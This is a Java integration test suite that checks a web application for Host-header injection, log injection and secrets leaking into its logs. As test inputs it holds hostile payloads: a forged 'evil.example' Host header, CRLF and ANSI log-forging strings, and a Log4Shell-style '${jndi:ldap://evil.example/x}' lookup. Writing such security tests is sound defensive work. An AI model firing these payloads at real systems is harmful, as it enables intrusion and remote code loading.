package io.nimbill.whole.attack;

import static org.assertj.core.api.Assertions.assertThat;

import io.nimbill.party.Caller;
import io.nimbill.party.CurrentCaller;
import io.nimbill.party.Parties;
import io.nimbill.party.Role;
import io.nimbill.vendor.VendorAccountKeeping;
import io.nimbill.whole.InServer;
import io.nimbill.whole.api.ApiClient;
import io.nimbill.whole.api.ApiTree;
import io.nimbill.whole.people.People;
import io.nimbill.work.PublicId;
import io.nimbill.work.Settings;
import jakarta.inject.Inject;
import jakarta.json.Json;
import jakarta.json.JsonObject;
import java.io.IOException;
import java.io.StringReader;
import java.net.Socket;
import java.net.URI;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.logging.Level;
import java.util.logging.Logger;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;

/** What was sent does not come out where it should not: another host in links, lines and secrets in the log (A27, A28, A33). */
@InServer
class LeaksIT {

    private static final String PASSWORD = People.PASSWORD;

    @Inject
    private CurrentCaller currentCaller;

    @Inject
    private ApiTree tree;

    @Inject
    private Parties parties;

    @Inject
    private People people;

    @Inject
    private VendorAccountKeeping vendors;

    @Inject
    private Settings settings;

    private String mail;

    @BeforeEach
    void somebody() throws Exception {
        tree.operator();
        mail = "l" + PublicId.random().value().substring(0, 10) + "@nimbill.test";
        people.add(parties.operator().orElseThrow(), mail, "Lea", Role.ADMINISTRATOR.code());
    }

    /** The host is what the caller says: nothing may be built of it. */
    @Test
    @DisplayName("A33: the Host header in answers")
    void another_host_in_the_request_stands_in_no_answer() throws IOException {
        String key = tree.keyOf(tree.operator());
        String party = "{\"kind\":\"CLIENT\",\"legalName\":\"Host\",\"country\":\"DE\",\"currency\":\"EUR\"}";
        for (String request : List.of(
                "GET /staff/home.xhtml HTTP/1.1\r\n",
                "GET /sign-in.xhtml HTTP/1.1\r\nX-Forwarded-Host: evil.example\r\n",
                "GET /nowhere HTTP/1.1\r\n",
                "POST /api/v1/parties HTTP/1.1\r\nAuthorization: Bearer " + key
                        + "\r\nContent-Type: application/json\r\nContent-Length: " + party.length() + "\r\n")) {
            String body = request.startsWith("POST") ? party : "";
            String answer = raw(request + "Host: evil.example\r\nConnection: close\r\n\r\n" + body);
            assertThat(answer).as(request).startsWith("HTTP/1.1 ").doesNotContain("evil.example");
            assertThat(answer).as(request).doesNotContain("HTTP/1.1 400", "HTTP/1.1 5");
        }
    }

    @Test
    @DisplayName("A27: line ends, ANSI and lookups in the log")
    void nothing_that_is_sent_makes_a_line_of_its_own_in_the_log() throws IOException {
        String mark = "Forged" + PublicId.random().value();
        String line = "2026-01-01 00:00:00,000 ERROR [" + mark + "]";
        String attack = mark + "\r\n" + line + " \u001b[31m${jndi:ldap://evil.example/x} {\"level\":\"ERROR\"}";
        String encoded = URLEncoder.encode(attack, StandardCharsets.UTF_8);
        ApiClient staff = tree.as(tree.keyOf(tree.operator()));
        browser().signIn(attack, attack);
        browser().get("/sign-in.xhtml?from=" + encoded);
        browser().get("/nowhere?" + encoded);
        staff.get("/parties?q=" + encoded);
        staff.post("/parties", "{\"legalName\":" + Json.createValue(attack) + "}");
        staff.send(
                "POST",
                "/datasets/" + tree.dataset().publicId().prefixed("dts") + "/deliveries?name=" + encoded + ".csv",
                "a,b\n1,2\n",
                List.of("Content-Type", "text/csv"));
        Logger.getLogger("io.nimbill.whole").log(Level.WARNING, "Said: " + attack, new IllegalStateException(attack));

        List<String> lines = linesOfTheLog();
        assertThat(lines).noneMatch(each -> each.startsWith(line) || each.contains("\u001b"));
        assertThat(lines.stream().filter(each -> each.contains(mark)))
                .isNotEmpty()
                .allSatisfy(each -> {
                    JsonObject record =
                            Json.createReader(new StringReader(each)).readObject();
                    assertThat(record.getString("timestamp")).endsWith("Z");
                    assertThat(record).containsKeys("level", "loggerName", "message");
                });
    }

    private static List<String> linesOfTheLog() throws IOException {
        return Files.readAllLines(
                Path.of(System.getProperty("jboss.server.log.dir"), "server.log"), StandardCharsets.UTF_8);
    }

    @Test
    @DisplayName("A27: a user agent of a megabyte")
    void what_names_the_browser_is_limited_and_cut() {
        assertThat(firstLine("A".repeat(1 << 20))).doesNotContain(" 200 ", " 5");
        Browser visitor = browser();
        Map<String, String> fields = new LinkedHashMap<>(Map.of(
                "signIn", "signIn", "signIn:email", mail, "signIn:password", PASSWORD, "signIn:enter", "signIn:enter"));
        fields.put(
                "jakarta.faces.ViewState",
                Browser.viewState(visitor.get("/sign-in.xhtml").body()));
        assertThat(visitor.post("/sign-in.xhtml", fields, "User-Agent", "Agent" + "A".repeat(4_000))
                        .statusCode())
                .isEqualTo(302);
        assertThat(visitor.get("/staff/profile.xhtml").body())
                .contains("Agent" + "A".repeat(100))
                .doesNotContain("A".repeat(300));
    }

    /** Of the answer; nothing when the server hangs up. */
    private String firstLine(String agent) {
        try {
            return raw("GET /sign-in.xhtml HTTP/1.1\r\nHost: x\r\nUser-Agent: " + agent
                            + "\r\nConnection: close\r\n\r\n")
                    .lines()
                    .findFirst()
                    .orElse("");
        } catch (IOException hungUp) {
            return "";
        }
    }

    private String raw(String request) throws IOException {
        URI base = browser().address("/");
        try (Socket socket = new Socket(base.getHost(), base.getPort())) {
            socket.setSoTimeout(20_000);
            socket.getOutputStream().write(request.getBytes(StandardCharsets.UTF_8));
            return new String(socket.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        }
    }

    @Test
    @DisplayName("A28: secrets in the log")
    void no_secret_comes_into_the_log() throws IOException {
        String canary = "Canary" + PublicId.random().value();
        String key = tree.keyOf(tree.operator());
        browser().signIn(mail, canary);
        browser().signIn(canary + "@nimbill.test", PASSWORD);
        browser().get("/set-password.xhtml?secret=" + canary);
        assertThat(tree.as("nbk_" + canary).get("/parties").status()).isEqualTo(401);
        assertThat(tree.as(key).get("/parties").status()).isEqualTo(200);
        assertThat(tree.as(key)
                        .post("/parties", "{\"password\":\"" + canary + "\",\"legalName\":{}}")
                        .status())
                .isEqualTo(400);
        String session = signedIn();
        currentCaller.runAs(
                Caller.system("test"),
                () -> vendors.replaceCredential(tree.dataset().publicId(), canary));
        List<String> secrets = List.of(canary, key, PASSWORD, session);
        try (Stream<Path> files = Files.list(Path.of(System.getProperty("jboss.server.log.dir")))) {
            List<Path> logs =
                    files.filter(file -> file.toString().endsWith(".log")).toList();
            assertThat(logs).isNotEmpty();
            for (Path log : logs) {
                String text = Files.readString(log, StandardCharsets.ISO_8859_1);
                secrets.forEach(secret -> assertThat(text.contains(secret))
                        .as("a secret in " + log)
                        .isFalse());
            }
        }
    }

    private String signedIn() {
        Browser visitor = browser();
        assertThat(visitor.signIn(mail, PASSWORD).statusCode()).isEqualTo(302);
        assertThat(visitor.session()).hasSizeGreaterThan(20);
        return visitor.session();
    }

    private Browser browser() {
        return new Browser(settings.baseUrl());
    }
}
